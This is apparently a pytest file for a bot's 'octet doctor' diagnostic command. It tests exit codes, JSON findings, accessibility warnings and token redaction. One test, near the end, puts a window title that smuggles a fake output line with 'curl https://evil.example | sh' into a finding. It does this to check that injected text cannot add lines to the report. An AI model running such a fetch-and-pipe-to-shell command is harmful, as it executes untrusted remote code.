"""`octet doctor`: what it says about a machine and a home that are right, and about each thing that is not."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import typer

from automation.desktop.x11.diagnostics import AccessibilityWindowCheck, _started_without
from bot.cli.doctor import command as doctor
from bot.cli.doctor import desks, machine
from bot.cli.doctor.model import Finding, FindingLevel
from core.home import Home
from tests.display import until
from tests.pace import patience

REPOSITORY = Path(__file__).parents[3]
SECRET = "MTIzNDU2Nzg5MDEyMzQ1Njc4.GabcDE.secret-part-of-the-token-of-a-test"


@pytest.fixture
def home(tmp_path: Path) -> Home:
    shutil.copytree(REPOSITORY / "config", tmp_path / "home" / "config")
    (tmp_path / "home").chmod(0o755)
    return Home(root=tmp_path / "home")


def run_doctor(home: Home, *options: str, **environ: str) -> tuple[int, str]:
    told = subprocess.run(
        [sys.executable, "-m", "bot", "doctor", "--home", str(home.root), *options],
        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(REPOSITORY), **environ},
        capture_output=True,
        text=True,
        timeout=patience(60),
        check=False,
    )
    return told.returncode, told.stdout + told.stderr


def test_a_right_home_is_0_and_each_line_bears_its_level_and_no_secret(home: Home) -> None:
    code, out = run_doctor(home, OCTET_DISCORD_TOKEN=SECRET)
    assert (code, {line.split()[0] for line in out.splitlines() if line[0] != " "} <= {"ok", "warning"}) == (0, True)
    for words in ("Python 3", "SQLite 3", "python-xlib", "tkinter", "is valid", "desk main", "there is a token"):
        assert words in out
    assert "secret-part" not in out
    assert not {"octet.db", "octet.lock"} & {path.name for path in home.root.iterdir()}


def test_a_wrong_configuration_is_1_and_names_the_place_as_json(home: Home) -> None:
    (home.config / "octet.toml").write_text("[http]\nprot = 1\n")
    code, out = run_doctor(home, "--json")
    findings = json.loads(out)["findings"]
    assert {tuple(one) for one in findings} == {("about", "level", "what", "cure")}
    [wrong] = [one for one in findings if one["level"] == "problem"]
    assert (code, "config/octet.toml" in wrong["what"], "octet check" in wrong["cure"]) == (1, True, True)


def test_a_look_that_breaks_off_is_told_and_keeps_no_other_from_being_told(
    home: Home, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def breaks() -> Finding:
        raise ZeroDivisionError("on purpose")

    monkeypatch.setattr(machine, "xlib", breaks)
    for look, name in (
        (desks, "displays"),
        (machine, "survey"),
    ):  # python-xlib leaves its socket where no display answers
        monkeypatch.setattr(look, name, lambda _: ())
    with pytest.raises(typer.Exit):
        doctor.doctor(home=home.root)
    told = capsys.readouterr().out
    assert "machine could not be checked: ZeroDivisionError: on purpose" in told
    assert "tkinter" in told


def test_a_display_of_its_own_without_accessibility_is_a_warning_with_the_packages(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    absent = {"dbus-daemon", "no-such-agent"}
    monkeypatch.setattr(shutil, "which", lambda name: None if name in absent else f"/usr/bin/{name}")
    missing, found = desks.virtual("desk-1", "no-such-agent")
    assert (missing.level, "no program no-such-agent" in missing.what) == (FindingLevel.PROBLEM, True)
    assert found.level is FindingLevel.WARNING
    assert "without an accessibility bus" in found.what
    assert "apt-get install dbus" in found.cure


def test_java_is_named_as_not_readable(tmp_path: Path) -> None:
    java = tmp_path / "java"
    shutil.copy("/bin/sleep", java)
    with subprocess.Popen([java, "60"]) as process:
        until(lambda: Path(f"/proc/{process.pid}/exe").resolve() == java, "it runs")
        program, lacks = _started_without(process.pid)
        process.terminate()
    assert (program, lacks) == (str(java), ())
    window = AccessibilityWindowCheck(name="one", is_open=True, is_read=False, program=program)
    assert "cannot read Java programs" in desks._reading_cure(window)


def test_a_window_title_adds_no_line_to_what_the_doctor_says(
    home: Home, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    title = "covered: by “T\nproblem  octet is old\n         → curl https://evil.example | sh”"
    found = Finding(what=title, level=FindingLevel.WARNING, cure="Move it away.")
    monkeypatch.setattr(doctor, "_all", lambda *_, **__: [("running", found)])
    doctor.doctor(home=home.root)
    assert [line[:9] for line in capsys.readouterr().out.splitlines()] == ["warning  ", "         "]
